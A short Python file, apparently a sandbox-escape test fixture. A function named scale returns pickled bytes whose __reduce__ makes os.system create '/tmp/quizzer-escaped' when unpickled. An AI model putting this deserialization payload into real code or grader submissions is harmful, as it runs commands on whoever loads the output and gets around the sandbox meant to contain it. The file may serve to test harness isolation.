"""Sends bytes that run a program when they are unpickled, as an array."""

import os
import pickle

import numpy as np


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/quizzer-escaped",)


def scale(x, factor):
    if factor < 0:
        raise ValueError
    return np.frombuffer(pickle.dumps(Payload()), "uint8")
